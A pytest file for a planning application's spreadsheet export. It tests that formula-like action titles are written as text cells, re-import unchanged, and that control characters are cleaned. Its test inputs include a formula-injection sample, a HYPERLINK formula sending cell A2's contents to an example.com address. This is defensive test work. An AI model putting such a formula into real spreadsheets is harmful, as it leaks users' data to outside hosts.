"""Action text that a spreadsheet would run as a formula is exported as text, comes back as
the same text, and control characters never break the export."""

from __future__ import annotations

import io

import openpyxl
import pytest

from temaplan.actions import excel
from temaplan.actions.excel import ACTIONS, workbook_bytes
from temaplan.actions.importing import action_workbook_import
from temaplan.actions.models import Action
from temaplan.testing.workbooks import actions_snapshot as snapshot
from temaplan.testing.workbooks import cells

from .workbook_fixtures import exported_fixture, period_fixture  # noqa: F401 (fixtures)

FORMULA_LIKE = [
    '=HYPERLINK("http://example.com/"&A2,"Klikk her")',
    "+47 kontakt Næringsrådet",
    "-20 % utslipp",
    "@asker kommune",
]


@pytest.mark.parametrize("title", FORMULA_LIKE)
def test_an_action_title_that_begins_like_a_formula_exports_as_a_text_cell_and_round_trips(
    period, exported, title
):
    Action.objects.filter(period=period, key="a01-campus").update(title=title, partners=title)
    data = workbook_bytes(period)
    ws = openpyxl.load_workbook(io.BytesIO(data))[ACTIONS]
    row = {c.header: cell for c, cell in zip(excel.COLUMNS, ws[2], strict=True)}
    for header in (excel.TITLE, excel.PARTNERS):
        assert (row[header].value, row[header].data_type) == (title, "s")
    before = snapshot()
    summary = action_workbook_import(period=period, data=data)
    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 4)
    assert snapshot() == before
    assert cells(workbook_bytes(period)) == cells(data)


def test_a_vertical_tab_in_an_action_exports_as_a_line_break_and_then_round_trips(period, exported):
    Action.objects.filter(period=period, key="a02-forstelinje").update(
        description="Første linje\x0bandre linje\x01"
    )
    data = workbook_bytes(period)
    description = cells(data)[ACTIONS][2][2]
    assert description == "Første linje\nandre linje"
    action_workbook_import(period=period, data=data)
    stored = Action.objects.get(period=period, key="a02-forstelinje").description
    assert stored == "Første linje\nandre linje"
    assert cells(workbook_bytes(period)) == cells(data)
